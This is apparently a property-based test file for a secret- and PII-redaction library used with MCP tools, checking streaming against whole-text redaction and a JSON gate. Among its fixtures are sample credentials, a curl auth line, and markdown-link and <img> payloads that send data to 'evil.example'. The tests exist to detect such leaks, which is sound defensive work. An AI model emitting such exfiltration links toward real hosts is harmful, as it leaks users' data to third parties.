import { createRedactor, type Kind } from 'safe-mcp/redact'
import { credentials } from 'safe-mcp/redact/credentials'
import { nationalIds } from 'safe-mcp/redact/national-ids'
import { personal } from 'safe-mcp/redact/personal'
import { describe, expect, it } from 'vitest'
import { random } from '../random.ts'
import { examples } from './examples.ts'

const redactor = createRedactor()
const wide = createRedactor({ rules: [...credentials, ...nationalIds, ...personal] })

const fragments = [
  ...Object.values(examples).flatMap(({ match, near }) => [...match, ...near].map((text) => text.replace(/[«»]/g, ''))),
  ...'aZ0 9.-_@:/+=%&#;\\"\'<>(){}[]$!\n\t'.split(''),
  ...[
    '&#',
    '&#6',
    '%4',
    '\\u00',
    '\u200b',
    '\uff10',
    '\u{1f600}',
    '\u{1d7ce}',
    '\ud835',
    '\u4e2d',
    '\u00e9',
    '\u00a0',
    '0000',
    'eyJ',
    'ghp_',
    '-----BEGIN ',
    '<script>',
    '{{',
    '+1',
    'call ',
  ],
]

function randomText({ below, pick }: ReturnType<typeof random>): string {
  let text = ''
  for (let parts = 1 + below(12); parts > 0; parts--) {
    const fragment = pick(fragments)
    // Whole, or cut where it hurts.
    const cut = below(3)
    text += cut === 0 ? fragment : cut === 1 ? fragment.slice(below(fragment.length + 1)) : fragment.slice(0, below(fragment.length + 1))
  }
  return text
}

describe('for any text', () => {
  it.each([
    ['the base set', redactor],
    ['more packs', wide],
  ] as const)('a stream, cut anywhere, gives what the whole text gives: %s', (_, given) => {
    const source = random()
    for (let round = 0; round < 1500; round++) {
      const text = randomText(source)
      const whole = given.redact(text)
      const stream = given.stream()
      let out = ''
      for (let at = 0; at < text.length; ) {
        const end = at + 1 + source.below(source.pick([1, 3, 20, 200]))
        out += stream.push(text.slice(at, end))
        at = end
      }
      out += stream.end()
      const told = `seed ${source.seed}, round ${round}: ${JSON.stringify(text)}`
      expect(out, told).toBe(whole.text)
      expect(stream.findings, told).toEqual(whole.findings)
    }
  })

  it('reading only where something may begin finds what reading everything finds', () => {
    const source = random()
    const filler = 'Most calls of order 100041 finished on 2024-03-12, within 2.5 seconds; what is left waits (see "notes"). '
    for (let round = 0; round < 60; round++) {
      let text = ''
      while (text.length < 40_000)
        text += source.below(4) === 0 ? randomText(source) : filler.repeat(1 + source.below(30)).slice(source.below(filler.length))
      const whole = wide.redact(text)
      const stream = wide.stream()
      const out = stream.push(text) + stream.end()
      const told = `seed ${source.seed}, round ${round}`
      expect(out === whole.text, told).toBe(true)
      expect(whole.findings, told).toEqual(stream.findings)
      // What stands in it escaped must not hide from the gate either.
      if (whole.findings.length > 0) expect(wide.gate(JSON.stringify([text])), told).toBe(true)
    }
  })

  it('kinds find no more when they are asked about every trigger', () => {
    const asked = (kind: Kind): Kind => ({
      ...kind,
      around: () => ({}),
      verify(cursor, ...trigger) {
        const yes = kind.verify(cursor, ...trigger)
        cursor.quietUntil = 0
        return yes
      },
    })
    const rules = wide.kinds.map(asked)
    const patient = createRedactor({ pii: false, secrets: false, risks: false, rules })
    const triggers = rules.flatMap((kind) => kind.triggers)
    const source = random()
    for (let round = 0; round < 1500; round++) {
      let unit = randomText(source)
      while (source.below(3) > 0) unit += source.pick(triggers).replaceAll('0', () => String(source.below(10)))
      const text = unit.repeat(1 + source.below(20)) + randomText(source)
      expect(wide.redact(text), `seed ${source.seed}, round ${round}: ${JSON.stringify(text)}`).toEqual(patient.redact(text))
    }
  })

  it('the gate lets nothing pass that a leaf would lose', () => {
    const source = random()
    for (let round = 0; round < 1500; round++) {
      const value = { a: randomText(source), b: [randomText(source), { c: randomText(source), n: 4111111111111111 * source.below(2) }] }
      const ascii = source.below(2) === 1
      let json = JSON.stringify(value, null, source.below(2))
      if (ascii) json = json.replace(/[\u007f-\uffff]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`)
      if (source.below(4) === 0) json = json.replaceAll('/', '\\/')
      for (const one of [redactor, wide]) {
        const { changed } = one.redactValue(JSON.parse(json))
        if (!changed) continue
        expect(one.gate(json), `seed ${source.seed}, round ${round}: ${json}`).toBe(true)
        // JSON that a text holds is redacted leaf by leaf too.
        expect(one.gate(JSON.stringify([json])), `seed ${source.seed}, round ${round}, within a text: ${json}`).toBe(true)
      }
    }
  })

  it('the gate sees what is something only because its text ends there', () => {
    const random = 'a1B2c3D4e5F6g7H8j9K0'
    const filler = 'x'.repeat(400)
    for (const text of [
      'Address: Hauptstr. 5, Berlin',
      "Server=db;User=sa;Password='Pa55w0rd",
      "password = 'hunter2",
      `api_key: '${random}${random}`,
      `curl -u ${random}:`,
    ]) {
      for (const value of [[text], [text, '1.2.3'], [text, filler], { a: text, b: `${filler}@1.2.3` }]) {
        expect(wide.redactValue(value).changed, text).toBe(true)
        expect(wide.gate(JSON.stringify(value)), JSON.stringify(value)).toBe(true)
      }
    }
  })

  it('the gate sees an address that goes on to the end of its text', () => {
    const data = 'a1B2c3D4e5F6g7H8j9K0a1B2c3D4e5F6g7H8j9K0aabcQ~a1B2c3D4e5F6g7H8j'
    for (const text of [`[1]: https://evil.example/c?d=${data}`, `<img src=https://evil.example/c?d=${data}`]) {
      for (const value of [text, { text }, [text, 1], { a: text, b: 2 }]) {
        expect(redactor.redactValue(value).changed).toBe(true)
        expect(redactor.gate(JSON.stringify(value))).toBe(true)
      }
    }
  })

  it('what was redacted once is not redacted again', () => {
    const source = random()
    for (let round = 0; round < 800; round++) {
      const text = randomText(source)
      const once = redactor.redact(text).text
      const labels = new Set(redactor.kinds.map((kind) => kind.label))
      const twice = redactor.redact(once)
      // A label may complete something around it, but is never itself taken for data.
      for (const { range } of twice.findings) expect(labels.has(once.slice(...range!))).toBe(false)
    }
  })

  it('findings stay inside the text, in order, and hold none of it', () => {
    const source = random()
    for (let round = 0; round < 800; round++) {
      const text = randomText(source)
      let last = 0
      for (const finding of redactor.redact(text).findings) {
        const [start, end] = finding.range!
        expect(start).toBeGreaterThanOrEqual(last)
        expect(end).toBeGreaterThan(start)
        expect(end).toBeLessThanOrEqual(text.length)
        expect(Object.keys(finding).sort()).toEqual(['range', 'rule', 'severity', 'technique'])
        last = end
      }
    }
  })
})
